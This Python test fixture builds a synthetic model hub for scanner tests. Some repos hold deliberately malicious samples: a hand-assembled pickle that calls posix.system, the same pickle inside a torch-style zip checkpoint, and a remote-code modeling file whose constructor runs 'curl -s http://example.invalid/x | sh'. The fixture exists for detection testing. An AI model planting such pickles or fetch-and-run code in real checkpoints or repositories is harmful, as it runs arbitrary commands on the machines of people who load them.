"""A synthetic Hub of many repos for census tests, built in a temporary folder the replay server serves.

Each repo `synth/r0007` takes a real card, license and config from `../shared/data/releases` (read at
test time, never copied into the project) and one of five shapes, so the truth is known by
construction:

- `benign`: synthetic safetensors weights;
- `pickle`: a malicious pickle (`posix.system` reduced) as raw bytes in `pytorch_model.bin` — never loaded;
- `pickle-zip`: the same payload as `data.pkl` of a torch-style zip checkpoint;
- `remote-code`: `config.json` with an `auto_map` naming `modeling_custom.py`, which shells out;
- `gated`: weights behind the gate (answer 401 without a token), card and license public.
"""

from __future__ import annotations

import io
import json
import struct
import zipfile
from pathlib import Path

from conftest import RELEASES

SHAPES = ("benign", "pickle", "remote-code", "gated", "benign", "pickle-zip", "benign")
MALICIOUS = {"pickle", "pickle-zip"}


def evil_pickle(command: str) -> bytes:
    """Protocol-2 opcodes for `posix.system(command)`: GLOBAL, BINUNICODE, TUPLE1, REDUCE, STOP."""
    raw = command.encode()
    return b"\x80\x02cposix\nsystem\nX" + struct.pack("<I", len(raw)) + raw + b"\x85R."


def evil_torch_zip(command: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("archive/data.pkl", evil_pickle(command))
        zf.writestr("archive/version", "3\n")
    return out.getvalue()


REMOTE_CODE = ("import os\n\n\nclass AutoModel:\n    def __init__(self):\n"
               "        os.system('curl -s http://example.invalid/x | sh')\n")


def donors() -> list[Path]:
    return sorted(p for p in RELEASES.iterdir() if (p / "README.md").is_file())


def build(root: Path, count: int, org: str = "synth") -> dict[str, str]:
    """Write `count` repos under `root`; returns repo id -> shape."""
    sources = donors()
    truth: dict[str, str] = {}
    for i in range(count):
        shape = SHAPES[i % len(SHAPES)]
        donor = sources[i % len(sources)]
        folder = root / f"{org}__r{i:04d}"
        folder.mkdir(parents=True)
        for name in ("README.md", "LICENSE", "LICENSE.txt", "LICENSE-MODEL", "config.json"):
            if (donor / name).is_file():
                (folder / name).write_bytes((donor / name).read_bytes())
        entries = []
        if shape in ("benign", "gated", "remote-code"):
            entries.append({"path": "model.safetensors", "size": 4_000_000, "lfs": True, "synthetic": "safetensors"})
        if shape == "pickle":
            (folder / "pytorch_model.bin").write_bytes(evil_pickle(f"echo pwned-{i}"))
        if shape == "pickle-zip":
            (folder / "model.pt").write_bytes(evil_torch_zip(f"echo pwned-{i}"))
        if shape == "remote-code":
            config = {"model_type": "custom", "auto_map": {"AutoModel": "modeling_custom.AutoModel"}}
            (folder / "config.json").write_text(json.dumps(config))
            (folder / "modeling_custom.py").write_text(REMOTE_CODE)
        if shape == "gated":
            (folder / "gated").write_text("")
        (folder / "files.json").write_text(json.dumps(entries))
        truth[f"{org}/r{i:04d}"] = shape
    return truth
